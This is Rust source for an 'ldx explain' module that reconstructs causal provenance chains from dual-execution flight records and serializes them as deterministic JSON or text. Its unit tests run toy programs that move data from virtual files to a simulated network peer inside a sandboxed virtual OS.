        r#"fn main() {
            let a = open("/data/a.txt", 0);
            let head = read(a, 4);
            let secret = trim(read(open("/secret", 0), 8));
            let extra = "";
            if (secret == "log") {
                let b = open("/scratch/b.txt", 1);
                write(b, "bbbb");
                close(b);
                extra = "+logged";
            }
            let tail = read(a, 4);
            close(a);
            send(connect("out"), head + tail + extra);
        }"#,
    );
    let world = VosConfig::new()
        .file("/data/a.txt", "AAAAaaaa")
        .file("/secret", "off")
        .dir("/scratch")
        .peer("out", PeerBehavior::Echo);
    let spec = DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/secret".into()),
            mutation: Mutation::Replace("log".into()),
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    };
    let report = dual_execute(program, &world, &spec);
    assert!(report.master.is_ok() && report.slave.is_ok());
    let arg_diff = report.causality.iter().find_map(|c| match &c.kind {
        CausalityKind::ArgDiff { master, slave } => Some((master.clone(), slave.clone())),
        _ => None,
    });
    let (m, s) = arg_diff.expect("final send aligns");
    assert!(m.contains("AAAAaaaa"), "master: {m}");
    // With colliding descriptors the slave's `tail` read would return the
    // scratch file's content; the disjoint overlay fd range prevents it.
    assert!(s.contains("AAAAaaaa+logged"), "slave: {s}");
}
