//! `ldx explain`: causal provenance reports built on the divergence
//! flight recorder.
//!
//! [`Analysis::attribute_sources`] answers *which* sources are causal;
//! this module reconstructs *why*: for each causal (source, sink) pair it
//! assembles the provenance chain — the mutated source value, the first
//! decoupled syscall, every tainted resource, and the first diverging
//! sink with its byte-level diff — and cross-references it against the
//! static dependence analysis: the `ldx-sdep` PDG path from the source
//! site to the sink site, each step annotated with whether a dynamic
//! flight-recorder event witnessed it, plus the "static-predicted but
//! dynamically quiet" residue.
//!
//! # Determinism
//!
//! [`ExplainReport::to_json`] is byte-identical across runs of the same
//! (single-threaded) program and spec, and across `--no-prune`: chains
//! are built only from *causal* attributions (identical either way),
//! lane order is each role's deterministic execution order, resources
//! are sorted, and timing-dependent recorder facts (barrier deltas) are
//! never serialized. The format is `schemas/explain_schema.json`.

use crate::{Analysis, BatchEngine, SourceAttribution};
use ldx_dualex::{ByteDiff, CausalityKind, Decision, FlightEvent, Mutation, SourceMatcher};
use ldx_ir::IrProgram;
use ldx_sdep::{SiteRef, StaticAnalysis};
use std::collections::BTreeSet;
use std::fmt::Write as _;

/// A human-readable description of a source matcher (`file:/a`,
/// `net:host`, `client:7`, `syscall:random`, `site:main:3`).
pub fn matcher_desc(matcher: &SourceMatcher) -> String {
    match matcher {
        SourceMatcher::FileRead(path) => format!("file:{path}"),
        SourceMatcher::NetRecv(host) => format!("net:{host}"),
        SourceMatcher::ClientRecv(port) => format!("client:{port}"),
        SourceMatcher::SyscallKind(sys) => format!("syscall:{sys}"),
        SourceMatcher::Site(func, site) => format!("site:{func}:{site}"),
    }
}

/// The stable lowercase name of a mutation kind.
pub fn mutation_name(mutation: &Mutation) -> &'static str {
    match mutation {
        Mutation::OffByOne => "off-by-one",
        Mutation::BitFlip => "bit-flip",
        Mutation::Zero => "zero",
        Mutation::Replace(_) => "replace",
        Mutation::SetInt(_) => "set-int",
        Mutation::Identity => "identity",
    }
}

/// The stable lowercase name of a causality kind.
fn kind_name(kind: &CausalityKind) -> &'static str {
    match kind {
        CausalityKind::ArgDiff { .. } => "arg-diff",
        CausalityKind::MasterOnlySink => "master-only-sink",
        CausalityKind::SlaveOnlySink => "slave-only-sink",
        CausalityKind::PathDiffAtSink => "path-diff",
        CausalityKind::EndDiff { .. } => "end-diff",
    }
}

/// One per-source verdict line of the report header.
#[derive(Debug, Clone)]
pub struct SourceSummary {
    /// Index into the analysis' source list.
    pub index: usize,
    /// Matcher description ([`matcher_desc`]).
    pub matcher: String,
    /// Mutation name ([`mutation_name`]).
    pub mutation: &'static str,
    /// Whether mutating only this source produced causality.
    pub causal: bool,
    /// `ldx-sdep` proves the (source, sinks) pair independent. Reported
    /// instead of the runtime "was pruned" fact so the JSON stays
    /// byte-identical under `--no-prune` (which runs pairs the static
    /// analysis would have skipped, without changing any verdict).
    pub statically_independent: bool,
}

/// A syscall interposition event referenced from a chain, with both
/// progress-counter values at the point alignment was resolved.
#[derive(Debug, Clone)]
pub struct ChainSyscall {
    /// The interposition decision name (`decoupled`, `compared`, …).
    pub decision: &'static str,
    /// Function name containing the site.
    pub func: String,
    /// The static site index.
    pub site: u32,
    /// The syscall name.
    pub sys: String,
    /// Master progress-counter scalar.
    pub master_cnt: u64,
    /// Slave progress-counter scalar.
    pub slave_cnt: u64,
    /// Whether the site is a sink under the spec.
    pub is_sink: bool,
}

/// The recorded application of the mutation to the source outcome.
#[derive(Debug, Clone)]
pub struct ChainMutation {
    /// Function name containing the source site.
    pub func: String,
    /// The source site index.
    pub site: u32,
    /// The source syscall name.
    pub sys: String,
    /// Progress-counter scalar at the mutation.
    pub cnt: u64,
    /// Bounded excerpt of the original outcome.
    pub original: String,
    /// Bounded excerpt of the mutated outcome.
    pub mutated: String,
}

/// The diverging sink terminating a chain.
#[derive(Debug, Clone)]
pub struct ChainSink {
    /// Function name containing the sink site.
    pub func: String,
    /// The sink site index.
    pub site: u32,
    /// The sink syscall name.
    pub sys: String,
    /// The causality kind name (`arg-diff`, `master-only-sink`, …).
    pub kind: &'static str,
    /// The byte-level payload diff, when both payloads exist.
    pub diff: Option<ByteDiff>,
}

/// One step of the static PDG witness path, annotated with whether any
/// dynamic flight-recorder event anchored at the site.
#[derive(Debug, Clone)]
pub struct StaticStep {
    /// Function name containing the site.
    pub func: String,
    /// The site index.
    pub site: u32,
    /// A dynamic event witnessed this site.
    pub witnessed: bool,
}

/// The provenance chain of one causal (source, sink) pair.
#[derive(Debug, Clone)]
pub struct CausalChain {
    /// Index of the causal source.
    pub source_index: usize,
    /// Matcher description of the source.
    pub source: String,
    /// The recorded mutation application (first in slave order).
    pub mutation: Option<ChainMutation>,
    /// The first syscall the slave executed decoupled.
    pub first_decoupled: Option<ChainSyscall>,
    /// The first aligned sink comparison.
    pub first_compared: Option<ChainSyscall>,
    /// Every tainted resource id, sorted (`path:…`, `lock:…`, …).
    pub tainted_resources: Vec<String>,
    /// Copy-on-write clones, `(resource, replayed position)`, in slave
    /// execution order.
    pub cow_clones: Vec<(String, u64)>,
    /// The first diverging sink.
    pub sink: ChainSink,
    /// The static PDG path from a source candidate site to the sink
    /// (empty when no candidate reaches the sink statically — e.g. a
    /// race-induced record in a threaded program).
    pub static_path: Vec<StaticStep>,
}

impl CausalChain {
    /// Static-path steps no dynamic event witnessed: the
    /// "static-predicted but dynamically quiet" residue.
    pub fn static_quiet(&self) -> Vec<&StaticStep> {
        self.static_path.iter().filter(|s| !s.witnessed).collect()
    }
}

/// The full `ldx explain` report: per-source verdicts, one provenance
/// chain per causal source, and the recorder totals over causal runs.
#[derive(Debug, Clone)]
pub struct ExplainReport {
    /// A label for the analyzed program (path or name).
    pub program: String,
    /// Per-source verdicts, in source order.
    pub sources: Vec<SourceSummary>,
    /// One chain per causal source, in source order.
    pub chains: Vec<CausalChain>,
    /// Master-lane events recorded across the causal runs.
    pub master_events: u64,
    /// Slave-lane events recorded across the causal runs.
    pub slave_events: u64,
    /// Events dropped on lane overflow across the causal runs.
    pub dropped: u64,
}

fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn syscall_json(ev: &ChainSyscall) -> String {
    format!(
        "{{\"decision\": {}, \"func\": {}, \"site\": {}, \"sys\": {}, \
         \"master_cnt\": {}, \"slave_cnt\": {}, \"is_sink\": {}}}",
        json_str(ev.decision),
        json_str(&ev.func),
        ev.site,
        json_str(&ev.sys),
        ev.master_cnt,
        ev.slave_cnt,
        ev.is_sink
    )
}

fn diff_json(d: &ByteDiff) -> String {
    let first = d
        .first_diff
        .map_or_else(|| "null".to_string(), |o| o.to_string());
    format!(
        "{{\"first_diff\": {first}, \"master_len\": {}, \"slave_len\": {}, \
         \"master_hunk\": {}, \"slave_hunk\": {}}}",
        d.master_len,
        d.slave_len,
        json_str(&d.master_hunk),
        json_str(&d.slave_hunk)
    )
}

impl ExplainReport {
    /// Whether any chain was reconstructed (i.e. any source is causal).
    pub fn any_causal(&self) -> bool {
        !self.chains.is_empty()
    }

    /// The report as deterministic JSON (`schemas/explain_schema.json`).
    pub fn to_json(&self) -> String {
        let mut out = String::from("{\n");
        let _ = writeln!(out, "  \"schema\": \"ldx-explain-v1\",");
        let _ = writeln!(out, "  \"program\": {},", json_str(&self.program));
        out.push_str("  \"sources\": [");
        for (i, s) in self.sources.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "\n    {{\"index\": {}, \"matcher\": {}, \"mutation\": {}, \
                 \"causal\": {}, \"statically_independent\": {}}}",
                s.index,
                json_str(&s.matcher),
                json_str(s.mutation),
                s.causal,
                s.statically_independent
            );
        }
        out.push_str("\n  ],\n  \"chains\": [");
        for (i, c) in self.chains.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str("\n    {\n");
            let _ = writeln!(out, "      \"source_index\": {},", c.source_index);
            let _ = writeln!(out, "      \"source\": {},", json_str(&c.source));
            match &c.mutation {
                Some(m) => {
                    let _ = writeln!(
                        out,
                        "      \"mutation\": {{\"func\": {}, \"site\": {}, \"sys\": {}, \
                         \"cnt\": {}, \"original\": {}, \"mutated\": {}}},",
                        json_str(&m.func),
                        m.site,
                        json_str(&m.sys),
                        m.cnt,
                        json_str(&m.original),
                        json_str(&m.mutated)
                    );
                }
                None => out.push_str("      \"mutation\": null,\n"),
            }
            for (key, ev) in [
                ("first_decoupled", &c.first_decoupled),
                ("first_compared", &c.first_compared),
            ] {
                match ev {
                    Some(ev) => {
                        let _ = writeln!(out, "      \"{key}\": {},", syscall_json(ev));
                    }
                    None => {
                        let _ = writeln!(out, "      \"{key}\": null,");
                    }
                }
            }
            out.push_str("      \"tainted_resources\": [");
            for (j, r) in c.tainted_resources.iter().enumerate() {
                if j > 0 {
                    out.push_str(", ");
                }
                out.push_str(&json_str(r));
            }
            out.push_str("],\n      \"cow_clones\": [");
            for (j, (r, pos)) in c.cow_clones.iter().enumerate() {
                if j > 0 {
                    out.push_str(", ");
                }
                let _ = write!(out, "{{\"resource\": {}, \"pos\": {pos}}}", json_str(r));
            }
            out.push_str("],\n");
            let diff = c
                .sink
                .diff
                .as_ref()
                .map_or_else(|| "null".to_string(), diff_json);
            let _ = writeln!(
                out,
                "      \"sink\": {{\"func\": {}, \"site\": {}, \"sys\": {}, \
                 \"kind\": {}, \"diff\": {diff}}},",
                json_str(&c.sink.func),
                c.sink.site,
                json_str(&c.sink.sys),
                json_str(c.sink.kind)
            );
            out.push_str("      \"static_path\": [");
            for (j, s) in c.static_path.iter().enumerate() {
                if j > 0 {
                    out.push_str(", ");
                }
                let _ = write!(
                    out,
                    "{{\"func\": {}, \"site\": {}, \"witnessed\": {}}}",
                    json_str(&s.func),
                    s.site,
                    s.witnessed
                );
            }
            out.push_str("],\n      \"static_quiet\": [");
            for (j, s) in c.static_quiet().iter().enumerate() {
                if j > 0 {
                    out.push_str(", ");
                }
                let _ = write!(
                    out,
                    "{{\"func\": {}, \"site\": {}}}",
                    json_str(&s.func),
                    s.site
                );
            }
            out.push_str("]\n    }");
        }
        let _ = write!(
            out,
            "\n  ],\n  \"recorder\": {{\"master_events\": {}, \"slave_events\": {}, \
             \"dropped\": {}}}\n}}\n",
            self.master_events, self.slave_events, self.dropped
        );
        out
    }

    /// A terminal-friendly rendering of the report.
    pub fn render_text(&self) -> String {
        let mut out = String::new();
        let causal = self.sources.iter().filter(|s| s.causal).count();
        let _ = writeln!(
            out,
            "explain {}: {} sources, {causal} causal",
            self.program,
            self.sources.len()
        );
        for s in &self.sources {
            let verdict = if s.statically_independent {
                "inert (statically independent)"
            } else if s.causal {
                "CAUSAL"
            } else {
                "inert"
            };
            let _ = writeln!(
                out,
                "  source #{} {} ({}): {verdict}",
                s.index, s.matcher, s.mutation
            );
        }
        for c in &self.chains {
            let _ = writeln!(out, "chain for source #{} {}:", c.source_index, c.source);
            match &c.mutation {
                Some(m) => {
                    let _ = writeln!(
                        out,
                        "  mutated   @ {}:s{} {} cnt={}: {:?} -> {:?}",
                        m.func, m.site, m.sys, m.cnt, m.original, m.mutated
                    );
                }
                None => out.push_str("  mutated   : (no recorded mutation)\n"),
            }
            for (label, ev) in [
                ("decoupled", &c.first_decoupled),
                ("compared ", &c.first_compared),
            ] {
                if let Some(ev) = ev {
                    let _ = writeln!(
                        out,
                        "  {label} @ {}:s{} {} cnt={}/{}{}",
                        ev.func,
                        ev.site,
                        ev.sys,
                        ev.master_cnt,
                        ev.slave_cnt,
                        if ev.is_sink { " (sink)" } else { "" }
                    );
                }
            }
            if !c.tainted_resources.is_empty() {
                let _ = writeln!(out, "  tainted   : {}", c.tainted_resources.join(", "));
            }
            for (r, pos) in &c.cow_clones {
                let _ = writeln!(out, "  cow-clone : {r} @ pos {pos}");
            }
            let _ = write!(
                out,
                "  sink      @ {}:s{} {} [{}]",
                c.sink.func, c.sink.site, c.sink.sys, c.sink.kind
            );
            match &c.sink.diff {
                Some(d) => {
                    let at = d
                        .first_diff
                        .map_or_else(|| "length mismatch".to_string(), |o| format!("byte {o}"));
                    let _ = writeln!(
                        out,
                        ": diverges at {at} ({:?} vs {:?}, {} vs {} bytes)",
                        d.master_hunk, d.slave_hunk, d.master_len, d.slave_len
                    );
                }
                None => out.push('\n'),
            }
            if c.static_path.is_empty() {
                out.push_str("  static    : no PDG witness path\n");
            } else {
                let steps: Vec<String> = c
                    .static_path
                    .iter()
                    .map(|s| {
                        format!(
                            "{}:s{}{}",
                            s.func,
                            s.site,
                            if s.witnessed { "" } else { "?" }
                        )
                    })
                    .collect();
                let quiet = c.static_quiet().len();
                let _ = writeln!(
                    out,
                    "  static    : {}{}",
                    steps.join(" -> "),
                    if quiet == 0 {
                        " (all witnessed)".to_string()
                    } else {
                        format!(" ({quiet} quiet)")
                    }
                );
            }
        }
        let _ = writeln!(
            out,
            "recorder: {} master + {} slave events, {} dropped",
            self.master_events, self.slave_events, self.dropped
        );
        out
    }
}

fn func_name(program: &IrProgram, func: ldx_ir::FuncId) -> String {
    program.func(func).name.clone()
}

fn chain_syscall(program: &IrProgram, ev: &FlightEvent) -> Option<ChainSyscall> {
    if let FlightEvent::Syscall {
        decision,
        func,
        site,
        sys,
        master_cnt,
        slave_cnt,
        is_sink,
        ..
    } = ev
    {
        Some(ChainSyscall {
            decision: decision.name(),
            func: func_name(program, *func),
            site: site.0,
            sys: sys.to_string(),
            master_cnt: *master_cnt,
            slave_cnt: *slave_cnt,
            is_sink: *is_sink,
        })
    } else {
        None
    }
}

/// Builds the provenance chain for one causal attribution.
fn build_chain(
    program: &IrProgram,
    sdep: &StaticAnalysis,
    attr: &SourceAttribution,
) -> Option<CausalChain> {
    let record = attr.report.causality.first()?;
    let flight = &attr.report.flight;

    let mutation = flight.slave.iter().find_map(|ev| {
        if let FlightEvent::Mutated {
            func,
            site,
            sys,
            cnt,
            original,
            mutated,
            ..
        } = ev
        {
            Some(ChainMutation {
                func: func_name(program, *func),
                site: site.0,
                sys: sys.to_string(),
                cnt: *cnt,
                original: original.clone(),
                mutated: mutated.clone(),
            })
        } else {
            None
        }
    });

    let first_with = |want: Decision| {
        flight.slave.iter().find_map(|ev| {
            matches!(ev, FlightEvent::Syscall { decision, .. } if *decision == want)
                .then(|| chain_syscall(program, ev))
                .flatten()
        })
    };
    let first_decoupled = first_with(Decision::Decoupled);
    let first_compared = first_with(Decision::Compared);

    let tainted: BTreeSet<String> = flight
        .slave
        .iter()
        .chain(&flight.master)
        .filter_map(|ev| match ev {
            FlightEvent::Taint { resource } => Some(resource.to_string()),
            _ => None,
        })
        .collect();
    let cow_clones: Vec<(String, u64)> = flight
        .slave
        .iter()
        .filter_map(|ev| match ev {
            FlightEvent::CowClone { resource, pos } => Some((resource.to_string(), *pos)),
            _ => None,
        })
        .collect();

    let sink_site: SiteRef = (record.func, record.site);
    let diff = flight
        .slave
        .iter()
        .find_map(|ev| match ev {
            FlightEvent::SinkDiff {
                func, site, diff, ..
            } if (*func, *site) == sink_site => Some(diff.clone()),
            _ => None,
        })
        .or_else(|| match &record.kind {
            CausalityKind::ArgDiff { master, slave } | CausalityKind::EndDiff { master, slave } => {
                Some(ByteDiff::compute(master, slave))
            }
            _ => None,
        });
    let sink = ChainSink {
        func: func_name(program, record.func),
        site: record.site.0,
        sys: record.sys.to_string(),
        kind: kind_name(&record.kind),
        diff,
    };

    // The static witness: the first source candidate site (deterministic
    // BTreeMap order) with a PDG path to the sink (to the end-state node
    // for EndDiff records).
    let is_end = matches!(record.kind, CausalityKind::EndDiff { .. });
    let path: Vec<SiteRef> = sdep
        .candidate_sites(&attr.source.matcher)
        .into_iter()
        .find_map(|candidate| {
            if is_end {
                sdep.path_to_end(candidate)
            } else {
                sdep.path_witness(candidate, sink_site)
            }
        })
        .unwrap_or_default();
    let witnessed: BTreeSet<SiteRef> = flight
        .master
        .iter()
        .chain(&flight.slave)
        .filter_map(FlightEvent::site)
        .collect();
    let static_path = path
        .into_iter()
        .map(|step| StaticStep {
            func: func_name(program, step.0),
            site: step.1 .0,
            witnessed: witnessed.contains(&step),
        })
        .collect();

    Some(CausalChain {
        source_index: attr.index,
        source: matcher_desc(&attr.source.matcher),
        mutation,
        first_decoupled,
        first_compared,
        tainted_resources: tainted.into_iter().collect(),
        cow_clones,
        sink,
        static_path,
    })
}

impl Analysis {
    /// Runs the per-source attribution with flight recording enabled and
    /// reconstructs the provenance chain of every causal source.
    ///
    /// The per-source runs fan out on an auto-sized [`BatchEngine`]; use
    /// [`Analysis::explain_with`] to control (or share) the pool.
    pub fn explain(&self, program_label: &str) -> ExplainReport {
        self.explain_with(&BatchEngine::auto(), program_label)
    }

    /// [`Analysis::explain`] on a caller-provided pool.
    ///
    /// Recorder totals are summed over the *causal* runs only, so the
    /// JSON is byte-identical whether or not static pruning skipped the
    /// inert sources.
    pub fn explain_with(&self, engine: &BatchEngine, program_label: &str) -> ExplainReport {
        let _span = ldx_obs::span(ldx_obs::cat::BATCH, "explain");
        let recorded = self.clone().recorded();
        let attributions = recorded.attribute_sources_with(engine);
        let program = self.program();
        let sdep = self.static_analysis();
        let sinks = &self.spec().sinks;
        let sources = attributions
            .iter()
            .map(|attr| SourceSummary {
                index: attr.index,
                matcher: matcher_desc(&attr.source.matcher),
                mutation: mutation_name(&attr.source.mutation),
                causal: attr.causal,
                statically_independent: !sdep.may_cause(&attr.source, sinks),
            })
            .collect();
        let mut master_events = 0u64;
        let mut slave_events = 0u64;
        let mut dropped = 0u64;
        let chains: Vec<CausalChain> = attributions
            .iter()
            .filter(|attr| attr.causal)
            .filter_map(|attr| {
                master_events += attr.report.flight.master.len() as u64;
                slave_events += attr.report.flight.slave.len() as u64;
                dropped += attr.report.flight.dropped();
                build_chain(&program, &sdep, attr)
            })
            .collect();
        ExplainReport {
            program: program_label.to_string(),
            sources,
            chains,
            master_events,
            slave_events,
            dropped,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SinkSpec, SourceSpec};
    use ldx_vos::{PeerBehavior, VosConfig};

    fn leaky_analysis() -> Analysis {
        Analysis::for_source(
            r#"fn main() {
                let a = read(open("/a", 0), 8);
                let b = read(open("/b", 0), 8);
                send(connect("out"), "payload=" + a);
            }"#,
        )
        .unwrap()
        .world(
            VosConfig::new()
                .file("/a", "used")
                .file("/b", "unused")
                .peer("out", PeerBehavior::Echo),
        )
        .source(SourceSpec::file("/a"))
        .source(SourceSpec::file("/b"))
        .sinks(SinkSpec::NetworkOut)
    }

    #[test]
    fn explain_builds_a_complete_chain() {
        let report = leaky_analysis().explain("test.lx");
        assert!(report.any_causal());
        assert_eq!(report.chains.len(), 1);
        let chain = &report.chains[0];
        assert_eq!(chain.source_index, 0);
        assert_eq!(chain.source, "file:/a");
        let m = chain.mutation.as_ref().expect("mutation recorded");
        assert_eq!(m.sys, "read");
        assert_eq!(m.original, "used");
        assert_ne!(m.mutated, "used");
        let compared = chain.first_compared.as_ref().expect("sink compared");
        assert!(compared.is_sink);
        assert_eq!(compared.sys, "send");
        assert_eq!(chain.sink.kind, "arg-diff");
        let diff = chain.sink.diff.as_ref().expect("payload diff");
        assert!(diff.first_diff.is_some(), "{diff:?}");
        assert_ne!(diff.master_hunk, diff.slave_hunk);
        assert!(!chain.static_path.is_empty(), "PDG witness path exists");
        assert!(chain.static_path.iter().any(|s| s.witnessed));
        assert!(report.slave_events > 0);
    }

    #[test]
    fn explain_json_is_deterministic_and_prune_invariant() {
        let a = leaky_analysis().explain("test.lx").to_json();
        let b = leaky_analysis().explain("test.lx").to_json();
        assert_eq!(a, b, "same program+spec must explain identically");
        let c = leaky_analysis().no_prune().explain("test.lx").to_json();
        assert_eq!(a, c, "--no-prune must not change the explanation");
        assert!(a.contains("\"schema\": \"ldx-explain-v1\""));
        assert!(a.contains("\"causal\": true"));
        assert!(
            a.contains("\"statically_independent\": true"),
            "/b is provably independent"
        );
    }

    #[test]
    fn explain_text_renders_the_chain() {
        let text = leaky_analysis().explain("test.lx").render_text();
        assert!(text.contains("2 sources, 1 causal"));
        assert!(text.contains("chain for source #0 file:/a"));
        assert!(text.contains("mutated"));
        assert!(text.contains("sink"));
        assert!(text.contains("recorder:"));
    }

    #[test]
    fn explain_without_causality_has_no_chains() {
        let report = Analysis::for_source(
            r#"fn main() {
                let a = read(open("/a", 0), 8);
                send(connect("out"), "constant");
            }"#,
        )
        .unwrap()
        .world(
            VosConfig::new()
                .file("/a", "x")
                .peer("out", PeerBehavior::Echo),
        )
        .source(SourceSpec::file("/a"))
        .sinks(SinkSpec::NetworkOut)
        .explain("quiet.lx");
        assert!(!report.any_causal());
        assert!(report.chains.is_empty());
        let json = report.to_json();
        assert!(json.contains("\"chains\": [\n  ]") || json.contains("\"chains\": []"));
    }
}
